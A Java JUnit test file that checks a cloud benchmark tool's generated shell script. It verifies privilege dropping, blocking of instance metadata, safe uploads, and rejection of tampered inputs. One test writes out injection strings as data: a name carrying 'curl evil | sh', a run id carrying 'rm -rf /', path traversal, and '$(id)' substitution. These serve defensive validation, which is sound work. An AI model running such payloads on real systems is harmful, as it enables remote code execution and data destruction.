package dev.cloudbench.core.script;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assumptions.assumeThat;

import dev.cloudbench.core.error.BadInputException;
import dev.cloudbench.core.json.InputReader;
import dev.cloudbench.core.model.Benchmark;
import dev.cloudbench.core.model.Suite;
import dev.cloudbench.core.validation.SuiteValidator;
import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The lines of a generated script that keep the suite away from the instance's credentials and records. */
class SuiteBoundaryTest {
    private static final ScriptOutput INBOX = new ScriptOutput("inbox/AROAEXAMPLE:i-0abc/", "aws s3 cp - \"s3://b/$1\"");
    private static final Suite SUITE = SuiteValidator.validate(InputReader.suiteJson("""
            {"name":"s","repository":{"url":"https://github.com/a/b","ref":"v1"},"setup":["make"],
             "benchmarks":[{"name":"a","command":"./a","timeoutSeconds":5},{"name":"b","command":"./b"}]}"""));
    private static final Suite VARIANTS = SuiteValidator.validate(InputReader.suiteJson("""
            {"name":"s","repository":{"url":"https://github.com/a/b","ref":"main"},"setup":["make"],
             "benchmarks":[{"name":"run","command":"./x"}],
             "variants":[{"name":"base"},{"name":"pr","ref":"feature","env":{"MODE":"fast"}}]}"""));

    @TempDir
    Path dir;

    private static String script() {
        return BenchmarkScript.generate(SUITE, "r1", "t1", INBOX);
    }

    @Test
    void everyUpload_goesUnderTheInstancesInbox() {
        String script = script();
        assertThat(script).contains("CB_PREFIX='inbox/AROAEXAMPLE:i-0abc/'")
                .contains("upload \"$CB_WORK/raw/a.json\" \"${CB_PREFIX}raw/a.json\"")
                .contains("upload \"$CB_OWN/progress.json\" \"${CB_PREFIX}progress.json\"")
                .doesNotContain("runs/r1");
    }

    @Test
    void cloneSetupAndBenchmarks_runAsTheSuitesUser_withACleanEnvironment() {
        String script = script();
        assertThat(script)
                .contains("setpriv --reuid=\"$CB_UID\" --regid=\"$CB_GID\" --init-groups --no-new-privs -- env -i"
                        + " PATH=\"$PATH\" HOME=\"$CB_HOME\" USER=cbench LOGNAME=cbench LC_ALL=C")
                .contains("as_suite git init -q src && as_suite git -C src remote add origin 'https://github.com/a/b'")
                .contains("as_suite bash -euo pipefail -c 'make' || fail failed setup 90")
                .contains("as_suite timeout --kill-after=10 5 hyperfine ")
                .contains("as_suite hyperfine --style basic");
        // Nothing of the suite's runs before the decision about who runs it.
        int decision = script.indexOf("if [ \"${CB_CONFINE:-0}\" = 1 ]");
        assertThat(decision).isPositive().isLessThan(script.indexOf("as_suite git init"));
        assertThat(script.lines().filter(l -> l.contains("hyperfine --style") || l.contains("-c 'make'")
                || l.startsWith("git ") || l.contains("&& git ")))
                .allMatch(l -> l.contains("as_suite "));
    }

    @Test
    void confinement_isRequiredOnTheAwsPath_andOnEc2AsRoot_andFailsClosed() {
        String script = script();
        assertThat(script)
                .contains("if [ \"${CB_CONFINE:-0}\" = 1 ] || { [ \"$(id -u)\" -eq 0 ] && on_ec2; }; then\n"
                        + "  confine || fail failed setup 90 'cannot run the suite as an unprivileged user without"
                        + " instance metadata; refusing to run it as root'")
                .contains("useradd --system --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin cbench")
                .contains("echo \"cloudbench: the suite runs as $(id -un), not confined");
    }

    @Test
    void firewall_dropsTheSuiteUsersPacketsToInstanceMetadata_andIsCheckedBeforeUse() {
        String script = script();
        assertThat(script)
                .contains("\"$1\" -w -C OUTPUT -d \"$2\" -m owner --uid-owner \"$CB_UID\" -j DROP 2>/dev/null ||\n"
                        + "    \"$1\" -w -I OUTPUT 1 -d \"$2\" -m owner --uid-owner \"$CB_UID\" -j DROP")
                .contains("block_metadata iptables 169.254.169.254 || return 1")
                .contains("block_metadata ip6tables fd00:ec2::254 || return 1")
                .contains("if as_suite curl -s -m 1 -o /dev/null -X PUT")
                .contains("echo 'cloudbench: the suite user still reaches instance metadata' >&2");
    }

    @Test
    void uploads_readEachFileAsTheSuitesUser_soRootNeverFollowsItsSymlinks() {
        String script = script();
        assertThat(script).contains("upload() { as_suite cat -- \"$1\" | (cd / && store_put \"$2\"); }")
                .contains("store_put() {\n  aws s3 cp - \"s3://b/$1\"\n}");
        // Root writes only in its own directory.
        assertThat(script.lines().filter(l -> l.matches(".*[^2&]> *\"\\$CB_WORK.*")))
                .as("root redirections into the suite's directory").isEmpty();
    }

    @Test
    void spotWatcher_pollsTheInterruptionNotice_andUploadsWhatExists() {
        String script = script();
        assertThat(script)
                .contains("if [ \"$(imds meta-data/instance-life-cycle)\" = spot ]; then\n"
                        + "    watch_spot </dev/null >/dev/null 2>&1 &\n    CB_WATCHER=$!\n"
                        + "    trap 'kill \"$CB_WATCHER\" 2>/dev/null' EXIT")
                .contains("  while sleep 5; do\n    if imds meta-data/spot/instance-action > \"$action\"; then")
                .contains("upload \"$action\" \"${CB_PREFIX}env/spot-instance-action.txt\"")
                .contains("for f in \"$CB_WORK\"/raw/*.json \"$CB_WORK\"/raw/*/*.json; do");
    }

    @Test
    void variants_reachTheSuitesUser_throughItsCleanEnvironment() {
        String script = RoundsScript.first(VARIANTS, "r1", "t1", INBOX);
        assertThat(script).contains("variant_1() { cd \"$CB_WORK\"/'variants/pr' || return 1; CB_ENV=('MODE=fast'); }")
                .contains("as_suite mkdir -p \"$CB_WORK/raw/$6\"")
                .contains("date +%s > \"$CB_OWN/rounds-started\"")
                .doesNotContain("export 'MODE");
    }

    @Test
    void tamperedNames_areRefusedWhereTheyReachTheScript() {
        Suite badBenchmark = new Suite("s", null, null, List.of(), 0, 1, null,
                List.of(new Benchmark("a'; curl evil | sh; '", "true", null, null, null, null)));
        assertThatThrownBy(() -> BenchmarkScript.generate(SUITE, "r1; rm -rf /", "t1", INBOX))
                .isInstanceOf(BadInputException.class).hasMessageStartingWith("script: run id 'r1; rm -rf /'");
        assertThatThrownBy(() -> BenchmarkScript.generate(SUITE, "r1", "../r2", INBOX))
                .isInstanceOf(BadInputException.class).hasMessageStartingWith("script: target id '../r2'");
        assertThatThrownBy(() -> BenchmarkScript.generate(badBenchmark, "r1", "t1", INBOX))
                .isInstanceOf(BadInputException.class).hasMessageStartingWith("script: benchmark name 'a'");
        assertThatThrownBy(() -> BenchmarkScript.generate(SUITE, "r1", "t1",
                new ScriptOutput("inbox/$(id)/", "true"))).isInstanceOf(BadInputException.class)
                .hasMessage("script: upload prefix 'inbox/$(id)/' is not a store prefix");
    }

    /** At warning level: notes such as SC2015 ({@code A && B || fail}) describe the scripts' intended style. */
    @Test
    void generatedScripts_passShellcheck() throws Exception {
        boolean shellcheck = Arrays.stream(System.getenv().getOrDefault("PATH", "").split(File.pathSeparator))
                .anyMatch(d -> !d.isEmpty() && Files.isExecutable(Path.of(d, "shellcheck")));
        assumeThat(shellcheck).as("shellcheck is not installed (Debian: apt-get install shellcheck)").isTrue();
        for (String script : List.of(script(), RoundsScript.first(VARIANTS, "r1", "t1", INBOX),
                RoundsScript.more(VARIANTS, "r1", "t1", INBOX, 11, 20))) {
            Path file = Files.writeString(dir.resolve("s-" + System.nanoTime() + ".sh"), script);
            Process p = new ProcessBuilder("shellcheck", "--format=gcc", "--severity=warning", file.toString()).redirectErrorStream(true).start();
            String out = new String(p.getInputStream().readAllBytes());
            assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
            assertThat(p.exitValue()).as(out).isZero();
        }
    }
}
